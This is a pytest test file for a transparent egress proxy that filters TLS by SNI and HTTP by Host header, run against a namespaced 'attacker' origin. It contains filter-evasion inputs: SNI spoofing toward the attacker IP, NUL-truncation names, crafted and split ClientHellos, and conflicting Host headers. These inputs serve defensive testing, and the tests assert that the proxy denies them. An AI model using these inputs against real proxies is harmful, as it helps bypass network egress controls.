"""Transparent mode: connections an nftables redirect sends to
--transparent-listen, TLS judged by the ClientHello's SNI, HTTP by the Host
header, the admitted name resolved and dialled by the proxy on the original
port, never the original destination address.

Every test runs in a network namespace of its own (harness/netns.py): the
DNS server, the origins (the real ones on 127.0.0.1 / ::1, an "attacker" on
127.0.0.2 with another certificate), the proxy and the clients are all
inside it, and only the client user's (uid 65534) connections to ports 80,
443 and 8443 are redirected. Needs root, unshare, nsenter and nft; skipped
with the reason otherwise."""

import os
import shutil
import socket
import ssl
import struct

import pytest

from harness import netns
from harness.client import (Conn, ConnectionClosed, TLSOverSocket, request_bytes,
                            send_in_pieces)
from harness.origin import HELLO_BODY, pattern
from harness.util import by, token

ZONE = {
    "allowed.test": ["127.0.0.1"],
    "*.allowed.test": ["127.0.0.1"],
    "v6.allowed.test": ["::1"],
    "outside.allowed.test": ["192.0.2.10"],   # outside --allow-destination-cidrs
    "down.allowed.test": ["127.0.0.3"],       # nothing listens there
    "other.test": ["127.0.0.1"],
    "notallowed.test": ["127.0.0.1"],
    "evil.test": ["127.0.0.1"],
    "wild.test": ["127.0.0.1"],
    "*.wild.test": ["127.0.0.1"],
    "tlsonly.test": ["127.0.0.1"],
    "plainonly.test": ["127.0.0.1"],
    "attacker.test": ["127.0.0.2"],
    "slow.allowed.test": [netns.BLACKHOLE],   # connects there hang
}
CERT_NAMES = ["allowed.test", "*.allowed.test", "*.b.allowed.test", "other.test", "wild.test",
              "*.wild.test", "*.y.wild.test",
              "tlsonly.test", "plainonly.test", "evil.test", "notallowed.test"]
ATTACKER_CERT_NAMES = ["allowed.test", "*.allowed.test", "attacker.test"]

SOMEWHERE = "203.0.113.9"      # any address: the redirect catches it
SOMEWHERE6 = "2001:db8::9"
ATTACKER = "127.0.0.2"

ALERT_ACCESS_DENIED = bytes([0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 49])
ALERT_UNRECOGNIZED_NAME = bytes([0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 112])
EXT_SNI = 0x0000
EXT_PADDING = 0x0015
EXT_PSK = 0x0029
EXT_ECH = 0xfe0d
TLS_FAILURES = (ConnectionClosed, ssl.SSLError, ConnectionError, OSError)


# -- fixtures -----------------------------------------------------------------

@pytest.fixture(scope="session")
def netns_ok():
    why = netns.probe()
    if why:
        pytest.skip(f"transparent-mode tests need network namespaces and nftables: {why}")


@pytest.fixture(scope="session")
def tp_certs(netns_ok):
    real = netns.make_shared_cert(CERT_NAMES)
    attacker = netns.make_shared_cert(ATTACKER_CERT_NAMES)
    yield real[1:], attacker[1:]
    shutil.rmtree(real[0], ignore_errors=True)
    shutil.rmtree(attacker[0], ignore_errors=True)


@pytest.fixture
def world(netns_ok, tp_certs, request, tmp_path):
    proxy_bin = request.getfixturevalue("proxy_bin")
    real, attacker = tp_certs
    w = netns.World(proxy_bin, ZONE, real, attacker, tmp_path)
    yield w
    errors = w.close()
    if errors:
        pytest.fail("\n\n".join(errors), pytrace=False)


@pytest.fixture
def proxy(world):
    """A transparent proxy allowing allowed.test and other.test (and subdomains)."""
    return world.start_proxy()


# -- ClientHello surgery --------------------------------------------------------

def client_hello(sni):
    """The ClientHello Python's ssl module sends for `sni` (None: no SNI),
    as one TLS record, without connecting anywhere."""
    return TLSOverSocket(None, sni, verify=False).start()


def hello_parts(record):
    """(record version, handshake body up to the extensions, [(type, data)])."""
    assert record[0] == 0x16 and len(record) == 5 + int.from_bytes(record[3:5], "big")
    msg = record[5:]
    assert msg[0] == 1 and int.from_bytes(msg[1:4], "big") == len(msg) - 4
    body = msg[4:]
    pos = 2 + 32
    pos += 1 + body[pos]                                      # session id
    pos += 2 + int.from_bytes(body[pos:pos + 2], "big")       # cipher suites
    pos += 1 + body[pos]                                      # compression methods
    prefix = body[:pos]
    end = pos + 2 + int.from_bytes(body[pos:pos + 2], "big")
    assert end == len(body)
    exts, pos = [], pos + 2
    while pos < end:
        etype, elen = struct.unpack("!HH", body[pos:pos + 4])
        exts.append((etype, body[pos + 4:pos + 4 + elen]))
        pos += 4 + elen
    return record[1:3], prefix, exts


def hello_build(version, prefix, exts, record_size=16384):
    """A ClientHello from parts, in records of at most record_size bytes."""
    ext_bytes = b"".join(struct.pack("!HH", t, len(d)) + d for t, d in exts)
    body = prefix + struct.pack("!H", len(ext_bytes)) + ext_bytes
    msg = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"".join(b"\x16" + version + struct.pack("!H", len(msg[i:i + record_size]))
                    + msg[i:i + record_size] for i in range(0, len(msg), record_size))


def sni_ext(*names):
    entries = b"".join(b"\x00" + struct.pack("!H", len(n)) + n for n in names)
    return struct.pack("!H", len(entries)) + entries


def rewrite_hello(hello, names=None, drop_sni=False, add=(), record_size=16384):
    """hello with its server_name replaced by `names` (bytes), or dropped, and
    extensions added (before a pre_shared_key, which must stay last)."""
    version, prefix, exts = hello_parts(hello)
    exts = [(t, d) for t, d in exts if t != EXT_SNI]
    if names is not None and not drop_sni:
        exts.insert(0, (EXT_SNI, sni_ext(*names)))
    psk = [(t, d) for t, d in exts if t == EXT_PSK]
    exts = [(t, d) for t, d in exts if t != EXT_PSK] + list(add) + psk
    return hello_build(version, prefix, exts, record_size)


def split_records(hello, cuts):
    """Re-frame a one-record hello into records cut at the given offsets of
    the handshake message."""
    body = hello[5:]
    bounds = [0] + list(cuts) + [len(body)]
    return b"".join(hello[0:3] + struct.pack("!H", b - a) + body[a:b]
                    for a, b in zip(bounds, bounds[1:]))


# -- client helpers ---------------------------------------------------------------

def tls_get(world, addr, sni, path="/hello", port=443, send=None, cafile=None, host=None):
    """Connect (as the client user) to addr:port, TLS with `sni` verified
    against the real certificate, GET path; returns the Response."""
    with world.connect(addr, port) as c:
        tls = TLSOverSocket(c, sni, cafile=cafile or world.certfile)
        hello = tls.start()
        (send or (lambda s, h: s.sendall(h)))(c.sock, hello)
        tls.finish_handshake()
        tc = Conn(tls)
        tc.send(request_bytes("GET", path, host or sni, [("Connection", "close")]))
        return tc.read_response()


def send_raw(world, addr, data, port=443, timeout=10.0):
    """Send raw bytes to addr:port and read until the proxy closes."""
    with world.connect(addr, port, timeout=timeout) as c:
        c.send(data)
        return c.read_to_eof()


def expect_denied_hello(world, data, alert=ALERT_ACCESS_DENIED, addr=SOMEWHERE):
    got = send_raw(world, addr, data)
    assert got == alert, f"expected the alert {alert.hex()} then a close, got {got[:64].hex()}"


def no_tls_reached(world, *names):
    """None of the names reached any HTTPS origin, and the attacker saw nothing."""
    for server in (world.https, world.https_alt, world.https6):
        for name in names:
            assert name not in server.state.sni_seen, (name, server.state.sni_seen)
    assert world.attacker.state.connections == 0


def http_get(world, host, path="/hello", addr=SOMEWHERE, port=80, headers=()):
    with world.connect(addr, port) as c:
        c.send(request_bytes("GET", path, host, headers))
        return c.read_response()


# -- TLS: names ----------------------------------------------------------------------

def test_tls_allowed_with_curl(world, proxy):
    tok = token()
    res = world.curl(["--cacert", world.certfile, "--resolve", f"allowed.test:443:{SOMEWHERE}",
                      f"https://allowed.test/hello?{tok}"])
    assert res.returncode == 0, res.stderr
    assert res.stdout == HELLO_BODY
    assert world.https.state.find(tok)
    assert "allowed.test" in world.https.state.sni_seen
    rec = proxy.log.wait_one(by(event="tls", sni="allowed.test"))
    assert rec["host"] == "allowed.test" and rec["port"] == 443
    assert rec["original_dst"] == f"{SOMEWHERE}:443"
    assert rec["decision"] == "allow" and rec["reason"] == "allowed"
    assert rec["upstream"] == "127.0.0.1:443"
    assert rec["bytes_up"] > 0 and rec["bytes_down"] > len(HELLO_BODY)
    assert "ech" not in rec and "method" not in rec


def test_tls_denied_with_curl(world, proxy):
    res = world.curl(["--cacert", world.certfile, "--resolve", f"notallowed.test:443:{SOMEWHERE}",
                      "https://notallowed.test/hello"])
    assert res.returncode != 0 and res.stdout == b""
    assert b"alert" in res.stderr.lower() or b"denied" in res.stderr.lower(), res.stderr
    rec = proxy.log.wait_one(by(event="tls", sni="notallowed.test"))
    assert rec["decision"] == "deny" and rec["reason"] == "not_allowed"
    assert rec["original_dst"] == f"{SOMEWHERE}:443"
    assert "upstream" not in rec
    no_tls_reached(world, "notallowed.test")


def test_tls_denied_gets_access_denied_alert(world, proxy):
    expect_denied_hello(world, client_hello("evil.test"))
    rec = proxy.log.wait_one(by(event="tls", sni="evil.test"))
    assert rec["decision"] == "deny" and rec["reason"] == "not_allowed"
    assert rec["host"] == "evil.test" and rec["port"] == 443
    no_tls_reached(world, "evil.test")


@pytest.mark.parametrize("sni,reason", [
    ("allowed.test", "allowed"),
    ("sub.allowed.test", "allowed"),
    ("a.b.allowed.test", "allowed"),
    ("a.wild.test", "allowed"),
    ("x.y.wild.test", "allowed"),
    ("wild.test", "not_allowed"),           # *.wild.test does not cover the apex
    ("evil.test", "not_allowed"),
    ("allowed.test.evil.test", "not_allowed"),
    ("xallowed.test", "not_allowed"),
    ("notallowed.test", "not_allowed"),
    ("evil.test.", "not_allowed"),          # a trailing dot changes nothing
    ("allowed.test..", "invalid_name"),
    ("allowed..test", "invalid_name"),
    ("-allowed.test", "not_allowed"),
    ("allowed.test\0.evil.test", "bad_client_hello"),  # NUL: no C-string truncation
    ("allowed.test\0", "bad_client_hello"),
])
def test_tls_subdomains_and_wildcards(world, sni, reason):
    proxy = world.start_proxy(allow="allowed.test,*.wild.test")
    if reason == "allowed":
        tok = token()
        resp = tls_get(world, SOMEWHERE, sni, f"/hello?{tok}")
        assert resp.status == 200 and resp.body == HELLO_BODY
        assert sni in world.https.state.sni_seen and world.https.state.find(tok)
    else:
        expect_denied_hello(world, rewrite_hello(client_hello("x.test"), names=[sni.encode()]))
        no_tls_reached(world, sni)
    rec = proxy.log.wait_one(by(event="tls"))
    assert rec["decision"] == ("allow" if reason == "allowed" else "deny")
    assert rec["reason"] == reason
    if reason != "bad_client_hello":
        assert rec["sni"] == sni


def test_tls_sni_case_is_normalised(world, proxy):
    resp = tls_get(world, SOMEWHERE, "ALLOWED.Test")
    assert resp.body == HELLO_BODY
    rec = proxy.log.wait_one(by(event="tls", decision="allow"))
    assert rec["host"] == "allowed.test"


def test_tls_block_rule_beats_allow(world):
    proxy = world.start_proxy(extra=["--block-domains", "bad.allowed.test"])
    expect_denied_hello(world, client_hello("bad.allowed.test"))
    rec = proxy.log.wait_one(by(event="tls", sni="bad.allowed.test"))
    assert rec["decision"] == "deny" and rec["reason"] != "allowed"
    assert tls_get(world, SOMEWHERE, "good.allowed.test").body == HELLO_BODY


def test_protocol_rules_follow_the_original_port(world):
    """https://x admits x over TLS only, http://y admits y over plain HTTP only."""
    proxy = world.start_proxy(allow="https://tlsonly.test,http://plainonly.test")
    assert tls_get(world, SOMEWHERE, "tlsonly.test").body == HELLO_BODY
    assert http_get(world, "plainonly.test").body == HELLO_BODY
    assert http_get(world, "tlsonly.test").status == 403
    expect_denied_hello(world, client_hello("plainonly.test"))
    proxy.log.wait_one(by(event="tls", sni="plainonly.test", decision="deny"))
    proxy.log.wait_one(by(event="http", host="tlsonly.test", decision="deny"))


# -- TLS: the bypass -------------------------------------------------------------------
# A client that sends an allowed SNI to some other address must reach the real
# host of that name or nothing: the proxy never dials the original destination.

def _check_reached_real_origin(world, proxy, tok):
    assert world.https.state.find(tok), "the real allowed.test origin did not get the request"
    assert world.attacker.state.connections == 0, "the attacker's server was dialled"
    assert world.attacker.state.sni_seen == [] and world.attacker.state.requests == []
    rec = proxy.log.wait_one(by(event="tls", sni="allowed.test"))
    assert rec["original_dst"] == f"{ATTACKER}:443"
    assert rec["decision"] == "allow" and rec["upstream"] == "127.0.0.1:443"


def test_sni_sent_to_attacker_ip_reaches_real_host(world, proxy):
    tok = token()
    # Verifying against the real certificate: the attacker's would fail here.
    resp = tls_get(world, ATTACKER, "allowed.test", f"/hello?{tok}")
    assert resp.status == 200 and resp.body == HELLO_BODY
    _check_reached_real_origin(world, proxy, tok)


def test_sni_sent_to_attacker_ip_without_verification(world, proxy):
    """Even a client that trusts anything gets the real origin's certificate."""
    tok = token()
    with open(world.certfile) as f:
        real_der = ssl.PEM_cert_to_DER_cert(f.read())
    with world.connect(ATTACKER, 443) as c:
        tls = TLSOverSocket(c, "allowed.test", verify=False)
        tls.handshake()
        assert tls.obj.getpeercert(binary_form=True) == real_der
        tc = Conn(tls)
        tc.send(request_bytes("GET", f"/hello?{tok}", "allowed.test", [("Connection", "close")]))
        assert tc.read_response().body == HELLO_BODY
    _check_reached_real_origin(world, proxy, tok)


def test_sni_sent_to_attacker_ip_with_openssl(world, proxy):
    tok = token()
    res = world.openssl_get(f"{ATTACKER}:443", "allowed.test", f"/hello?{tok}")
    assert res.returncode == 0, res.stderr
    assert res.stdout.startswith(b"HTTP/1.1 200 ") and res.stdout.endswith(HELLO_BODY)
    _check_reached_real_origin(world, proxy, tok)


def test_sni_sent_to_attacker_ip_with_curl(world, proxy):
    tok = token()
    res = world.curl(["--cacert", world.certfile, "--resolve", f"allowed.test:443:{ATTACKER}",
                      f"https://allowed.test/hello?{tok}"])
    assert res.returncode == 0, res.stderr
    assert res.stdout == HELLO_BODY
    _check_reached_real_origin(world, proxy, tok)


def test_control_attacker_is_reachable_without_redirect(world):
    """The rig's control: a client the redirect does not cover (root) does
    reach the attacker's server, so the bypass tests above can tell."""
    with world.connect(ATTACKER, 443, uid=0) as c:
        tls = TLSOverSocket(c, "allowed.test", cafile=world.attacker_certfile)
        tls.handshake()
        tc = Conn(tls)
        tc.send(request_bytes("GET", "/hello", "allowed.test", [("Connection", "close")]))
        assert tc.read_response().body == netns.ATTACKER_BODY


def test_allowed_sni_unresolvable_never_falls_back_to_original_address(world, proxy):
    """nx.other.test is allowed (subdomain of other.test) but does not resolve:
    nothing is dialled, not the attacker either."""
    expect_denied_hello(world, client_hello("nx.other.test"), addr=ATTACKER)
    rec = proxy.log.wait_one(by(event="tls", sni="nx.other.test"))
    assert rec["decision"] == "deny" and rec["reason"] == "dns_failure"
    assert rec["original_dst"] == f"{ATTACKER}:443" and "upstream" not in rec
    assert world.attacker.state.connections == 0


def test_allowed_sni_resolving_outside_allowed_cidrs_is_denied(world, proxy):
    expect_denied_hello(world, client_hello("outside.allowed.test"), addr=ATTACKER)
    rec = proxy.log.wait_one(by(event="tls", sni="outside.allowed.test"))
    assert rec["decision"] == "deny" and rec["reason"] == "private_destination"
    assert world.attacker.state.connections == 0


def test_allowed_sni_upstream_down(world, proxy):
    expect_denied_hello(world, client_hello("down.allowed.test"))
    rec = proxy.log.wait_one(by(event="tls", sni="down.allowed.test"))
    assert rec["decision"] == "deny" and rec["reason"] == "upstream_unreachable"
    assert world.attacker.state.connections == 0


def test_upstream_connect_timeout(world):
    proxy = world.start_proxy(extra=["--connect-timeout", "1"])
    with world.connect(SOMEWHERE, 443, timeout=8) as c:
        c.send(client_hello("slow.allowed.test"))
        assert c.read_to_eof() == ALERT_ACCESS_DENIED
    rec = proxy.log.wait_one(by(event="tls", sni="slow.allowed.test"))
    assert rec["decision"] == "deny" and rec["reason"] == "timeout"


def test_client_gone_while_dialling(world, proxy):
    """The client leaves while the proxy is still connecting upstream: the
    proxy drops the dial and goes on serving (teardown checks a clean exit)."""
    for how in ("close", "reset"):
        c = world.connect(SOMEWHERE, 443)
        c.send(client_hello("slow.allowed.test"))
        if how == "reset":
            c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        c.close()
    assert tls_get(world, SOMEWHERE, "allowed.test").body == HELLO_BODY
    assert proxy.running()


def test_client_half_close_after_hello(world, proxy):
    """A client that sends its hello and shuts down writing still gets the
    origin's answer: the half-close is passed on, not taken for a hang-up."""
    with world.connect(SOMEWHERE, 443) as c:
        c.send(client_hello("allowed.test"))
        c.shutdown_write()
        first = c.read_exact(5)
    assert first[0] == 0x16, first.hex()
    assert "allowed.test" in world.https.state.sni_seen


def test_audit_mode_admits_names_but_not_nameless(world):
    """--audit lets a denied name through (logged would_deny), but a hello
    with no usable name has nothing to dial and is still refused."""
    proxy = world.start_proxy(extra=["--audit"])
    assert tls_get(world, SOMEWHERE, "evil.test").body == HELLO_BODY
    rec = proxy.log.wait_one(by(event="tls", sni="evil.test"))
    assert rec["decision"] == "allow" and rec["would_deny"] is True
    assert rec["reason"] == "not_allowed" and rec["upstream"] == "127.0.0.1:443"
    expect_denied_hello(world, client_hello(None), alert=ALERT_UNRECOGNIZED_NAME)
    expect_denied_hello(world, rewrite_hello(client_hello("x.test"), names=[b"127.0.0.2"]),
                        addr=ATTACKER)
    assert world.attacker.state.connections == 0
    proxy.log.wait_one(by(event="tls", reason="no_sni", decision="deny"))
    proxy.log.wait_one(by(event="tls", reason="ip_literal", decision="deny"))
    assert http_get(world, "evil.test").body == HELLO_BODY
    rec = proxy.log.wait_one(by(event="http", host="evil.test"))
    assert rec["decision"] == "allow" and rec["would_deny"] is True


# -- TLS: hostile and odd hellos -----------------------------------------------------------

def test_no_sni_denied_with_unrecognized_name(world, proxy):
    expect_denied_hello(world, client_hello(None), alert=ALERT_UNRECOGNIZED_NAME)
    rec = proxy.log.wait_one(by(event="tls", reason="no_sni"))
    assert rec["decision"] == "deny" and "sni" not in rec and "host" not in rec
    assert rec["original_dst"] == f"{SOMEWHERE}:443"
    assert world.https.state.connections == 0


def test_no_sni_with_openssl(world, proxy):
    res = world.openssl_get(f"{ATTACKER}:443", None, "/hello", host="allowed.test")
    assert res.returncode != 0 and b"HTTP/" not in res.stdout
    assert b"unrecognized name" in res.stderr.lower(), res.stderr
    proxy.log.wait_one(by(event="tls", reason="no_sni", original_dst=f"{ATTACKER}:443"))
    assert world.https.state.connections == 0 and world.attacker.state.connections == 0


def test_empty_sni_denied(world, proxy):
    hello = rewrite_hello(client_hello("allowed.test"), names=[b""])
    expect_denied_hello(world, hello, alert=ALERT_UNRECOGNIZED_NAME)
    rec = proxy.log.wait_one(by(event="tls"))
    assert rec["decision"] == "deny" and rec["reason"] == "no_sni"
    assert world.https.state.connections == 0


@pytest.mark.parametrize("literal", ["127.0.0.1", "127.0.0.2", "::1", "[::1]", "2001:db8::9"])
def test_ip_literal_sni_denied(world, proxy, literal):
    hello = rewrite_hello(client_hello("allowed.test"), names=[literal.encode()])
    expect_denied_hello(world, hello, addr=ATTACKER)
    rec = proxy.log.wait_one(by(event="tls", sni=literal))
    assert rec["decision"] == "deny" and rec["reason"] in ("ip_literal", "invalid_name")
    if literal[0] != "[":
        assert rec["reason"] == "ip_literal"
    assert world.https.state.connections == 0 and world.attacker.state.connections == 0


@pytest.mark.parametrize("names", [[b"allowed.test", b"evil.test"],
                                   [b"evil.test", b"allowed.test"]])
def test_two_sni_names_denied(world, proxy, names):
    hello = rewrite_hello(client_hello("allowed.test"), names=names)
    expect_denied_hello(world, hello)
    rec = proxy.log.wait_one(by(event="tls"))
    assert rec["decision"] == "deny" and rec["reason"] == "bad_client_hello"
    assert world.https.state.connections == 0


def test_not_tls_on_tls_port(world, proxy):
    expect_denied_hello(world, request_bytes("GET", "/hello", "allowed.test"))
    rec = proxy.log.wait_one(by(event="tls"))
    assert rec["decision"] == "deny" and rec["reason"] == "bad_client_hello"
    assert world.https.state.connections == 0 and world.http.state.connections == 0


def test_oversized_hello_denied(world, proxy):
    big = rewrite_hello(client_hello("allowed.test"), add=[(EXT_PADDING, b"\0" * 17000)])
    assert len(big) > 17000
    with world.connect(SOMEWHERE, 443) as c:
        try:
            c.send(big)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the proxy may stop reading as soon as the size bound is passed
        got = c.read_to_eof()
    assert got == ALERT_ACCESS_DENIED, got[:64].hex()
    rec = proxy.log.wait_one(by(event="tls"))
    assert rec["decision"] == "deny" and rec["reason"] == "bad_client_hello"
    assert world.https.state.connections == 0


def test_hello_timeout(world):
    proxy = world.start_proxy(extra=["--header-timeout", "1"])
    hello = client_hello("allowed.test")
    with world.connect(SOMEWHERE, 443, timeout=8) as c:
        c.send(hello[:len(hello) // 2])
        got = c.read_to_eof()          # bounded by the socket timeout
    assert got == ALERT_ACCESS_DENIED, got[:64].hex()
    rec = proxy.log.wait_one(by(event="tls", reason="timeout"))
    assert rec["decision"] == "deny"
    assert world.https.state.connections == 0


def test_silent_client_times_out(world):
    proxy = world.start_proxy(extra=["--header-timeout", "1"])
    with world.connect(SOMEWHERE, 443, timeout=8) as c:
        got = c.read_to_eof()
    assert got == ALERT_ACCESS_DENIED, got[:64].hex()
    proxy.log.wait_one(by(event="tls", reason="timeout", decision="deny"))


# -- TLS: split hellos -----------------------------------------------------------------------

def test_hello_one_byte_at_a_time(world, proxy):
    tok = token()
    resp = tls_get(world, SOMEWHERE, "allowed.test", f"/hello?{tok}",
                   send=lambda s, h: send_in_pieces(s, h, [1] * len(h), pause=0.002))
    assert resp.body == HELLO_BODY and world.https.state.find(tok)
    assert proxy.log.wait_one(by(event="tls", sni="allowed.test"))["decision"] == "allow"


def test_denied_hello_one_byte_at_a_time(world, proxy):
    hello = client_hello("evil.test")
    with world.connect(SOMEWHERE, 443) as c:
        send_in_pieces(c.sock, hello, [1] * len(hello), pause=0.002)
        assert c.read_to_eof() == ALERT_ACCESS_DENIED
    proxy.log.wait_one(by(event="tls", sni="evil.test", decision="deny"))
    no_tls_reached(world, "evil.test")


@pytest.mark.parametrize("cuts", [[1], [4], [40], [100, 101, 102], list(range(10, 400, 37))],
                         ids=["1", "4", "40", "3x1", "many"])
def test_hello_across_records(world, proxy, cuts):
    """The handshake message split over several TLS records (the SNI among the
    cuts), each record also its own TCP segment."""
    tok = token()

    def send(sock, hello):
        framed = split_records(hello, cuts)
        sizes = []
        body_pos = 0
        for b in cuts + [len(hello) - 5]:
            sizes.append(5 + b - body_pos)
            body_pos = b
        send_in_pieces(sock, framed, sizes)

    resp = tls_get(world, SOMEWHERE, "sub.allowed.test", f"/hello?{tok}", send=send)
    assert resp.body == HELLO_BODY and world.https.state.find(tok)
    proxy.log.wait_one(by(event="tls", sni="sub.allowed.test", decision="allow"))


def test_denied_sni_across_records(world, proxy):
    hello = client_hello("evil.test")
    expect_denied_hello(world, split_records(hello, [1, 2, 50, 51]))
    proxy.log.wait_one(by(event="tls", sni="evil.test", decision="deny"))
    no_tls_reached(world, "evil.test")


# -- TLS: ECH ------------------------------------------------------------------------------------

def _ech_ext():
    # An outer ECH extension's shape: type, HPKE suite, config id, enc, payload.
    return (EXT_ECH, b"\x00" + b"\x00\x01\x00\x01" + b"\x2a"
            + struct.pack("!H", 32) + os.urandom(32) + struct.pack("!H", 96) + os.urandom(96))


def test_ech_logged_and_outer_sni_decided_on(world, proxy):
    hello = rewrite_hello(client_hello("allowed.test"), names=[b"allowed.test"], add=[_ech_ext()])
    with world.connect(SOMEWHERE, 443) as c:
        c.send(hello)
        first = c.read_exact(5)  # the real origin's answer, relayed
    assert first[0] == 0x16, first.hex()  # handshake (ServerHello), not an alert
    rec = proxy.log.wait_one(by(event="tls", sni="allowed.test"))
    assert rec["ech"] is True and rec["decision"] == "allow"
    assert rec["upstream"] == "127.0.0.1:443"


def test_ech_with_denied_outer_sni(world, proxy):
    hello = rewrite_hello(client_hello("evil.test"), names=[b"evil.test"], add=[_ech_ext()])
    expect_denied_hello(world, hello)
    rec = proxy.log.wait_one(by(event="tls", sni="evil.test"))
    assert rec["ech"] is True and rec["decision"] == "deny"
    no_tls_reached(world, "evil.test")


# -- TLS: IPv6 and other ports --------------------------------------------------------------------

def test_ipv6_client(world, proxy):
    tok = token()
    resp = tls_get(world, SOMEWHERE6, "allowed.test", f"/hello?{tok}")
    assert resp.body == HELLO_BODY and world.https.state.find(tok)
    rec = proxy.log.wait_one(by(event="tls", sni="allowed.test"))
    assert rec["original_dst"] == f"[{SOMEWHERE6}]:443"
    assert rec["upstream"] == "127.0.0.1:443" and rec["decision"] == "allow"


def test_ipv6_client_to_ipv6_origin_with_curl(world, proxy):
    tok = token()
    res = world.curl(["--cacert", world.certfile, "--resolve",
                      f"v6.allowed.test:443:[{SOMEWHERE6}]",
                      f"https://v6.allowed.test/hello?{tok}"])
    assert res.returncode == 0, res.stderr
    assert res.stdout == HELLO_BODY and world.https6.state.find(tok)
    rec = proxy.log.wait_one(by(event="tls", sni="v6.allowed.test"))
    assert rec["original_dst"] == f"[{SOMEWHERE6}]:443" and rec["upstream"] == "[::1]:443"


def test_ipv6_client_denied(world, proxy):
    expect_denied_hello(world, client_hello("evil.test"), addr=SOMEWHERE6)
    rec = proxy.log.wait_one(by(event="tls", sni="evil.test"))
    assert rec["decision"] == "deny" and rec["original_dst"] == f"[{SOMEWHERE6}]:443"


def test_extra_tls_port_dialled_on_that_port(world):
    proxy = world.start_proxy(ports="80,443,8443", extra=["--tls-ports", "443,8443"])
    tok = token()
    resp = tls_get(world, SOMEWHERE, "allowed.test", f"/hello?{tok}", port=8443)
    assert resp.body == HELLO_BODY
    assert world.https_alt.state.find(tok) and not world.https.state.find(tok)
    rec = proxy.log.wait_one(by(event="tls", port=8443))
    assert rec["upstream"] == "127.0.0.1:8443" and rec["original_dst"] == f"{SOMEWHERE}:8443"


def _expect_port_denied(world, proxy, port):
    with world.connect(SOMEWHERE, port) as c:
        c.send(client_hello("allowed.test"))
        assert c.read_to_eof() == b""
    rec = proxy.log.wait_one(by(event="tcp", reason="port_not_allowed"))
    assert rec["decision"] == "deny" and rec["port"] == port
    assert rec["original_dst"] == f"{SOMEWHERE}:{port}"
    assert world.https_alt.state.connections == 0 and world.https.state.connections == 0


def test_port_neither_tls_nor_http(world):
    """8443 is redirected and in --allow-ports, but in neither port set."""
    proxy = world.start_proxy(ports="80,443,8443")
    _expect_port_denied(world, proxy, 8443)


def test_tls_port_not_in_allow_ports(world):
    proxy = world.start_proxy(ports="80,443", extra=["--tls-ports", "443,8443"])
    _expect_port_denied(world, proxy, 8443)


def test_default_port_removed_from_allow_ports(world):
    proxy = world.start_proxy(ports="80")
    _expect_port_denied(world, proxy, 443)
    assert http_get(world, "allowed.test").body == HELLO_BODY


def test_direct_connection_not_redirected(world, proxy):
    for uid in (netns.CLIENT_UID, 0):
        with world.connect("127.0.0.1", netns.PROXY_PORT, uid=uid) as c:
            c.send(client_hello("allowed.test"))
            assert c.read_to_eof() == b""
    recs = proxy.log.wait(by(event="tcp", reason="not_redirected"), count=2)
    assert all(r["decision"] == "deny" and "original_dst" not in r for r in recs)
    assert world.https.state.connections == 0


def test_direct_connection_ipv6_not_redirected(world, proxy):
    with world.connect("::1", netns.PROXY_PORT) as c:
        assert c.read_to_eof() == b""
    proxy.log.wait_one(by(event="tcp", reason="not_redirected", decision="deny"))


def test_large_download_through_transparent_tls(world, proxy):
    n = 4 << 20
    resp = tls_get(world, SOMEWHERE, "allowed.test", f"/bytes?n={n}")
    assert resp.status == 200 and resp.body == pattern(n)
    rec = proxy.log.wait_one(by(event="tls", sni="allowed.test"))
    assert rec["bytes_down"] > n


# -- HTTP ------------------------------------------------------------------------------------

def test_http_allowed_with_curl(world, proxy):
    tok = token()
    res = world.curl(["--resolve", f"allowed.test:80:{SOMEWHERE}",
                      f"http://allowed.test/hello?{tok}"])
    assert res.returncode == 0, res.stderr
    assert res.stdout == HELLO_BODY
    req = world.http.state.find(tok)[0]
    assert req["path"] == f"/hello?{tok}"  # origin form, as the client sent it
    rec = proxy.log.wait_one(by(event="http", host="allowed.test"))
    assert rec["original_dst"] == f"{SOMEWHERE}:80" and rec["port"] == 80
    assert rec["decision"] == "allow" and rec["status"] == 200
    assert rec["method"] == "GET" and rec["upstream"] == "127.0.0.1:80"


def test_http_denied(world, proxy):
    tok = token()
    res = world.curl(["--resolve", f"evil.test:80:{SOMEWHERE}", "-w", "%{http_code}",
                      "-o", "/dev/null", f"http://evil.test/hello?{tok}"])
    assert res.stdout == b"403", (res.stdout, res.stderr)
    assert not world.http.state.find(tok)
    rec = proxy.log.wait_one(by(event="http", host="evil.test"))
    assert rec["decision"] == "deny" and rec["reason"] == "not_allowed" and rec["status"] == 403
    assert rec["original_dst"] == f"{SOMEWHERE}:80"


def test_http_to_attacker_ip_reaches_real_host(world, proxy):
    tok = token()
    res = world.curl(["--resolve", f"allowed.test:80:{ATTACKER}",
                      f"http://allowed.test/hello?{tok}"])
    assert res.returncode == 0, res.stderr
    assert res.stdout == HELLO_BODY
    assert world.http.state.find(tok)
    assert world.attacker_http.state.connections == 0
    rec = proxy.log.wait_one(by(event="http", host="allowed.test"))
    assert rec["original_dst"] == f"{ATTACKER}:80" and rec["upstream"] == "127.0.0.1:80"


def test_http_host_port_does_not_move_the_dial(world, proxy):
    """Host: allowed.test:9999 on a connection to port 80 is dialled on 80."""
    tok = token()
    resp = http_get(world, "allowed.test:9999", f"/hello?{tok}")
    assert resp.status == 200 and resp.body == HELLO_BODY
    assert world.http.state.find(tok)
    rec = proxy.log.wait_one(by(event="http", host="allowed.test"))
    assert rec["port"] == 80 and rec["upstream"] == "127.0.0.1:80"


def test_http_ipv6_client(world, proxy):
    tok = token()
    resp = http_get(world, "v6.allowed.test", f"/hello?{tok}", addr=SOMEWHERE6)
    assert resp.body == HELLO_BODY and world.http6.state.find(tok)
    rec = proxy.log.wait_one(by(event="http", host="v6.allowed.test"))
    assert rec["original_dst"] == f"[{SOMEWHERE6}]:80" and rec["upstream"] == "[::1]:80"


@pytest.mark.parametrize("raw", [
    b"GET /hello?TOK HTTP/1.1\r\n\r\n",
    b"GET /hello?TOK HTTP/1.0\r\n\r\n",
    b"GET /hello?TOK HTTP/1.1\r\nHost: allowed.test\r\nHost: allowed.test\r\n\r\n",
    b"GET /hello?TOK HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
    b"GET /hello?TOK HTTP/1.1\r\nHost: evil.test\r\nHost: allowed.test\r\n\r\n",
